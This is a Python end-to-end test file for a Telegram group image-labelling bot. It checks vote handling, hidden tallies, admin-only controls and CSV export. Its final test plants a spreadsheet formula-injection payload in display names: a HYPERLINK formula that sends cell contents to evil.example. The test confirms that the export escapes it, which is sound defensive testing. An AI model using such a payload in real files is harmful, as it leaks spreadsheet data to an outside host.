"""Three people label one concept in a group: separate votes, toggles, combined labels, no herding, admin-only stop."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

from tests.e2e.conftest import (
    Dataset,
    callback_answer,
    exported,
    jpeg,
    label_value,
    next_round,
    read_csv,
    reply_text,
    vote_count,
)
from tests.e2e.fake_bot_api import BOT_USERNAME, FakeBotApi

GROUP = -1001
ADMIN, ALICE, BOB = 11, 12, 13


def voted_shown(buttons: list[str], i: int) -> int:
    """How many voted on image ``i``, as a group keyboard shows it before Refine (``"👎 3 · 2 voted"``)."""
    for text in buttons:
        if m := re.fullmatch(rf"👎 {i}(?: · (\d+) voted)?", text):
            return int(m[1] or 0)
    raise LookupError(f"no 👎 {i} button in {buttons}")


async def test_group_votes_are_per_user_and_combined_and_the_split_stays_hidden_until_refine(
    fake: FakeBotApi, bot: Any, dataset: Dataset
) -> None:
    fake.admins[GROUP] = {ADMIN}

    async def vote(user: int, button: str) -> str:
        query = fake.press(GROUP, user, r1.keyboard, button)
        answer = await callback_answer(fake, query)
        return str(answer.params.get("text", ""))

    async def shows(check: Callable[[], bool]) -> None:
        """Wait until an edit of the first round's keyboard makes ``check`` true (edits are debounced)."""
        await fake.wait_for(
            "editMessageReplyMarkup",
            lambda c: c.params.get("message_id") == r1.keyboard["message_id"] and check(),
            timeout=10,
        )

    since = fake.mark()
    fake.user_message(GROUP, ALICE, f"/find@{BOT_USERNAME} snowy mountains", chat_type="group")
    r1 = await next_round(fake, dataset, GROUP, since=since)
    assert len(r1.ids) == 9

    # Image 1: two 👍 and one 👎 -> positive. Each voter hears their own vote; the keyboard shows
    # only how many voted, never the split, so later voters are not swayed by the majority.
    assert "👍 1" in await vote(ADMIN, "👍 1")
    assert "👍 1" in await vote(ALICE, "👍 1")
    assert "👎 1" in await vote(BOB, "👎 1")
    await shows(lambda: voted_shown(r1.buttons, 1) == 3)
    assert "👍 1" in r1.buttons
    assert not any(re.search(r"·\s*\d+$", b) for b in r1.buttons), r1.buttons
    # Image 2: one each -> a tie: contested, no label.
    await vote(ADMIN, "👍 2")
    await vote(ALICE, "👎 2")
    # Image 3: Bob taps 👎 three times (on, off, on) -> one vote, negative.
    for _ in range(3):
        await vote(BOB, "👎 3")
    # Image 4: the admin changes their mind from 👍 to 👎 -> negative.
    await vote(ADMIN, "👍 4")
    await vote(ADMIN, "👎 4")
    await shows(lambda: voted_shown(r1.buttons, 2) == 2 and voted_shown(r1.buttons, 3) == 1)
    await shows(lambda: voted_shown(r1.buttons, 4) == 1)

    # A member may not end the group's session; it goes on.
    since = fake.mark()
    fake.user_message(GROUP, ALICE, "/reset", chat_type="group")
    await reply_text(fake, GROUP, "Only group admins", since=since)
    since = fake.mark()
    answer = await callback_answer(fake, fake.press(GROUP, BOB, r1.keyboard, "⏹ Stop"))
    if "only group admins" not in str(answer.params.get("text", "")).lower():  # or said in the chat
        await reply_text(fake, GROUP, "Only group admins", since=since)

    since = fake.mark()
    fake.user_message(GROUP, BOB, f"/stats@{BOT_USERNAME}", chat_type="group")
    stats = await reply_text(fake, GROUP, "agreement", since=since)
    assert "snowy mountains" in stats and "voters" in stats.lower()
    assert "Krippendorff" in stats and stats.count("agrees with the others") == 3

    since = fake.mark()
    fake.user_message(GROUP, BOB, "/export", chat_type="group")
    csv_bytes, model = await exported(fake, GROUP, since=since)
    header, rows = read_csv(csv_bytes)
    assert header[:3] == ["image_id", "url", "label"]
    voter_columns = {uid: next(h for h in header[3:] if str(uid) in h) for uid in (ADMIN, ALICE, BOB)}
    labels = {r["image_id"]: label_value(r["label"]) for r in rows}
    assert labels[r1.ids[0]] == 1 and labels[r1.ids[2]] == -1 and labels[r1.ids[3]] == -1
    assert labels.get(r1.ids[1], 0) == 0
    by_id = {r["image_id"]: r for r in rows}
    assert label_value(by_id[r1.ids[0]][voter_columns[BOB]]) == -1
    assert label_value(by_id[r1.ids[0]][voter_columns[ALICE]]) == 1
    assert label_value(by_id[r1.ids[2]][voter_columns[BOB]]) == -1
    assert label_value(by_id[r1.ids[3]][voter_columns[ADMIN]]) == -1
    assert model["concept"] == "snowy mountains"

    # Refine skips the labelled images and the 1:1 tie; the refined round now shows its split.
    since = fake.mark()
    fake.press(GROUP, ALICE, r1.keyboard, "🔁 Refine")
    r2 = await next_round(fake, dataset, GROUP, since=since)
    assert not set(r2.ids) & {r1.ids[0], r1.ids[1], r1.ids[2], r1.ids[3]}
    await shows(lambda: vote_count(r1.buttons, "👍", 1) == 2)
    assert (vote_count(r1.buttons, "👍", 1), vote_count(r1.buttons, "👎", 1)) == (2, 1)
    assert (vote_count(r1.buttons, "👍", 2), vote_count(r1.buttons, "👎", 2)) == (1, 1)
    # The tie stays out of later rounds too.
    since = fake.mark()
    fake.press(GROUP, BOB, r2.keyboard, "🔁 Refine")
    r3 = await next_round(fake, dataset, GROUP, since=since)
    assert r1.ids[1] not in r3.ids and not set(r3.ids) & set(r2.ids)

    # The admin ends the session; the old buttons are now dead.
    since = fake.mark()
    fake.user_message(GROUP, ADMIN, f"/reset@{BOT_USERNAME}", chat_type="group")
    await fake.wait_for("sendMessage", lambda c: c.chat_id == GROUP, since=since)
    query = fake.press(GROUP, BOB, r3.keyboard, "👍 5")
    answer = await callback_answer(fake, query)
    assert "no longer active" in str(answer.params.get("text", "")).lower()


async def test_the_tallies_setting_shows_the_split_while_people_vote(
    fake: FakeBotApi, start_bot: Any, dataset: Dataset
) -> None:
    async with start_bot(group_tallies=True):
        since = fake.mark()
        fake.user_message(GROUP, ALICE, "/find snowy mountains", chat_type="group")
        r1 = await next_round(fake, dataset, GROUP, since=since)
        for user, button in ((ALICE, "👍 1"), (BOB, "👎 1")):
            await callback_answer(fake, fake.press(GROUP, user, r1.keyboard, button))
        await fake.wait_for(
            "editMessageReplyMarkup",
            lambda c: (vote_count(r1.buttons, "👍", 1), vote_count(r1.buttons, "👎", 1)) == (1, 1),
        )


async def test_a_member_cannot_replace_the_running_session_and_ended_ones_stay_exportable(
    fake: FakeBotApi, bot: Any, dataset: Dataset
) -> None:
    fake.admins[GROUP] = {ADMIN}
    since = fake.mark()
    fake.user_message(GROUP, ADMIN, f"/find@{BOT_USERNAME} snowy mountains", chat_type="group")
    r1 = await next_round(fake, dataset, GROUP, since=since)
    await callback_answer(fake, fake.press(GROUP, ALICE, r1.keyboard, "👍 1"))

    # A member's new concept, by text or by a photo captioned /find, leaves the session running.
    since = fake.mark()
    fake.user_message(GROUP, BOB, f"/find@{BOT_USERNAME} a cat", chat_type="group")
    text = await reply_text(fake, GROUP, "only group admins", since=since)
    assert "snowy mountains" in text
    fake.user_photo(GROUP, BOB, jpeg(5), chat_type="group", caption="/find")
    await fake.wait_for(
        "sendMessage", lambda c: "only group admins" in c.params["text"].lower(), count=2, since=since
    )
    await fake.settle()
    assert not fake.find("sendMediaGroup", since=since)
    answer = await callback_answer(fake, fake.press(GROUP, BOB, r1.keyboard, "👍 2"))
    assert "recorded" in str(answer.params.get("text"))

    # An admin may; the chat is told how to export the session that ended.
    since = fake.mark()
    fake.user_message(GROUP, ADMIN, f"/find@{BOT_USERNAME} a quiet beach", chat_type="group")
    await next_round(fake, dataset, GROUP, since=since)
    await reply_text(fake, GROUP, "/export 1", since=since)

    since = fake.mark()
    fake.user_message(GROUP, BOB, f"/sessions@{BOT_USERNAME}", chat_type="group")
    listing = await reply_text(fake, GROUP, "snowy mountains", since=since)
    assert "1 · “snowy mountains” · 2 labels · ended" in listing and "2 · “a quiet beach”" in listing

    since = fake.mark()
    fake.user_message(GROUP, BOB, f"/export@{BOT_USERNAME} 1", chat_type="group")
    csv_bytes, model = await exported(fake, GROUP, since=since)
    _, rows = read_csv(csv_bytes)
    assert model["concept"] == "snowy mountains"
    assert {r["image_id"]: label_value(r["label"]) for r in rows} == {r1.ids[0]: 1, r1.ids[1]: 1}

    since = fake.mark()
    fake.user_message(GROUP, BOB, f"/export@{BOT_USERNAME} 7", chat_type="group")
    await reply_text(fake, GROUP, "no session 7", since=since)


async def test_display_names_that_look_like_formulas_stay_text_in_labels_csv(
    fake: FakeBotApi, bot: Any, dataset: Dataset
) -> None:
    fake.names.update({ALICE: '=HYPERLINK("http://evil.example/?"&A1,"x")', BOB: "+1+2", ADMIN: "@SUM(1,2)"})
    since = fake.mark()
    fake.user_message(GROUP, ALICE, f"/find@{BOT_USERNAME} red boats", chat_type="group")
    r1 = await next_round(fake, dataset, GROUP, since=since)
    for user, button in ((ALICE, "👍 1"), (BOB, "👎 1"), (ADMIN, "👍 2")):
        await callback_answer(fake, fake.press(GROUP, user, r1.keyboard, button))
    since = fake.mark()
    fake.user_message(GROUP, BOB, f"/export@{BOT_USERNAME}", chat_type="group")
    csv_bytes, _ = await exported(fake, GROUP, since=since)
    header, rows = read_csv(csv_bytes)
    voters = header[4:]
    assert len(voters) == 3 and all(h.startswith("'") for h in voters), header
    assert any(h.startswith("'=HYPERLINK(") for h in voters)
    assert {label_value(r["label"]) for r in rows} == {0, 1}  # -1/1 votes are still numbers
    assert any(label_value(r[v]) == -1 for r in rows for v in voters if r[v])
